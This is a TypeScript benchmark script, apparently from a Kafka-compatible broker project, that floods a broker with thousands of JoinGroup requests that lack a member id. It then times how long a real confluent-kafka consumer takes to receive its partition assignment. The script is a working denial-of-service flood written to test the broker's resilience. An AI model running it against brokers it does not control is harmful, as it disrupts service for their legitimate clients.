/**
 * The JoinGroup flood of issue 19 item 2, against any broker (Krill or Apache Kafka; start either
 * with compat-tests/broker.sh): N JoinGroup v5 requests without member id for one group, each
 * answered MEMBER_ID_REQUIRED and never followed up, then a real confluent-kafka consumer
 * (Debian's python3-confluent-kafka, librdkafka) subscribes to a topic with that group; the figure
 * is the time from subscribe() to its first partition assignment.
 *
 *   npx tsx bench/attacks/group-join-flood.ts --bootstrap 127.0.0.1:9092 [--flood 10000]
 *       [--session-timeout-ms 45000] [--during] [--runs 3] [--deadline-ms 120000]
 *
 * --during keeps the flood going (one connection, 100 requests in flight) until the consumer
 * has its assignment, instead of sending it only before. Each run uses a new group and topic.
 * Prints one JSON line per run and a summary line.
 */
import { spawn } from "node:child_process";
import { parseArgs } from "node:util";
import { FIND_COORDINATOR_API, JOIN_GROUP_API } from "../../src/protocol/generated/apis.js";
import { ErrorCode, errorCodeName } from "../../src/protocol/generated/error-codes.js";
import { Connection } from "./connection.js";

const JOIN_VERSION = 5;
const FIND_COORDINATOR_VERSION = 3;
const IN_FLIGHT_MAX = 100;
const PYTHON = "/usr/bin/python3";

function joinRequest(groupId: string, sessionTimeoutMs: number) {
  return {
    groupId,
    sessionTimeoutMs,
    rebalanceTimeoutMs: 300_000,
    memberId: "",
    groupInstanceId: null,
    protocolType: "consumer",
    protocols: [{ name: "range", metadata: Buffer.from([0, 0, 0, 0, 0, 0, 255, 255, 255, 255]) }],
    reason: null,
  };
}

/** Waits until the broker coordinates the group (on a fresh broker this creates __consumer_offsets). */
async function awaitCoordinator(conn: Connection, groupId: string, deadlineMs: number): Promise<void> {
  while (Date.now() < deadlineMs) {
    const r = await conn.send(FIND_COORDINATOR_API, FIND_COORDINATOR_VERSION, {
      key: groupId,
      keyType: 0,
      coordinatorKeys: [],
    });
    if (r.errorCode === ErrorCode.NONE) {
      // The coordinator may still be loading: a JoinGroup answered MEMBER_ID_REQUIRED says it is not.
      const probe = await conn.send(JOIN_GROUP_API, JOIN_VERSION, joinRequest(`${groupId}-probe`, 10_000));
      if (probe.errorCode === ErrorCode.MEMBER_ID_REQUIRED) return;
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  throw new Error("the broker never became the group's coordinator");
}

/** Sends `count` joins (or, with `until`, keeps sending until it resolves); returns the answers by error code. */
async function flood(
  conn: Connection,
  groupId: string,
  sessionTimeoutMs: number,
  count: number,
  until: Promise<unknown> | null,
): Promise<Map<number, number>> {
  const answers = new Map<number, number>();
  let sent = 0;
  let stop = false;
  void until?.then(() => {
    stop = true;
  });
  const worker = async () => {
    while (until === null ? sent < count : !stop) {
      sent++;
      const r = await conn.send(JOIN_GROUP_API, JOIN_VERSION, joinRequest(groupId, sessionTimeoutMs));
      answers.set(r.errorCode, (answers.get(r.errorCode) ?? 0) + 1);
    }
  };
  await Promise.all(Array.from({ length: IN_FLIGHT_MAX }, worker));
  return answers;
}

const CONSUMER = `
import json, sys, time
from confluent_kafka import Consumer, KafkaException
from confluent_kafka.admin import AdminClient, NewTopic
bootstrap, topic, group, deadline_s = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
admin = AdminClient({"bootstrap.servers": bootstrap})
for f in admin.create_topics([NewTopic(topic, 1, 1)]).values():
    f.result()
assigned = []
c = Consumer({"bootstrap.servers": bootstrap, "group.id": group, "session.timeout.ms": 10000,
              "enable.auto.commit": False})
start = time.monotonic()
c.subscribe([topic], on_assign=lambda consumer, partitions: assigned.append((time.monotonic(), len(partitions))))
while not assigned and time.monotonic() - start < deadline_s:
    c.poll(0.05)
result = {"assigned": bool(assigned)}
if assigned:
    result["join_ms"] = round((assigned[0][0] - start) * 1000)
c.close()
print(json.dumps(result))
`;

function measureConsumer(
  bootstrap: string,
  topic: string,
  groupId: string,
  deadlineMs: number,
): Promise<{ assigned: boolean; join_ms?: number }> {
  return new Promise((resolve, reject) => {
    const child = spawn(PYTHON, ["-c", CONSUMER, bootstrap, topic, groupId, String(deadlineMs / 1000)], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    let out = "";
    child.stdout.on("data", (d: Buffer) => {
      out += d.toString();
    });
    child.on("error", reject);
    child.on("close", (code) => {
      if (code !== 0) reject(new Error(`consumer exited with ${code}`));
      else resolve(JSON.parse(out.trim().split("\n").pop()!));
    });
  });
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      bootstrap: { type: "string" },
      flood: { type: "string", default: "10000" },
      "session-timeout-ms": { type: "string", default: "45000" },
      during: { type: "boolean", default: false },
      runs: { type: "string", default: "3" },
      "deadline-ms": { type: "string", default: "120000" },
    },
  });
  if (values.bootstrap === undefined) throw new Error("--bootstrap host:port is required");
  const [host, portText] = values.bootstrap.split(":");
  const floodCount = Number(values.flood);
  const sessionTimeoutMs = Number(values["session-timeout-ms"]);
  const deadlineMs = Number(values["deadline-ms"]);
  const joins: number[] = [];
  for (let run = 0; run < Number(values.runs); run++) {
    const suffix = `${Date.now()}-${run}`;
    const groupId = `join-flood-${suffix}`;
    const topic = `join-flood-${suffix}`;
    const conn = await Connection.open(host!, Number(portText));
    await awaitCoordinator(conn, groupId, Date.now() + 60_000);
    const floodStart = Date.now();
    let answers: Map<number, number>;
    let consumer: { assigned: boolean; join_ms?: number };
    let floodMs: number;
    if (values.during) {
      await flood(conn, groupId, sessionTimeoutMs, floodCount, null);
      floodMs = Date.now() - floodStart;
      const measuring = measureConsumer(values.bootstrap, topic, groupId, deadlineMs);
      answers = await flood(conn, groupId, sessionTimeoutMs, 0, measuring);
      consumer = await measuring;
    } else {
      answers = await flood(conn, groupId, sessionTimeoutMs, floodCount, null);
      floodMs = Date.now() - floodStart;
      consumer = await measureConsumer(values.bootstrap, topic, groupId, deadlineMs);
    }
    conn.close();
    const floodAnswers = Object.fromEntries([...answers].map(([code, n]) => [errorCodeName(code), n]));
    console.log(
      JSON.stringify({
        run,
        flood: floodCount,
        during: values.during,
        floodMs,
        floodAnswers,
        ...consumer,
      }),
    );
    joins.push(consumer.assigned ? consumer.join_ms! : Number.POSITIVE_INFINITY);
  }
  const shown = joins.map((ms) => (Number.isFinite(ms) ? `${ms} ms` : `none within ${deadlineMs} ms`));
  console.log(
    `real consumer's join under a flood of ${floodCount}${values.during ? " (continuing)" : ""}: ${shown.join(", ")}`,
  );
}

main().catch((err: unknown) => {
  console.error(err);
  process.exit(1);
});
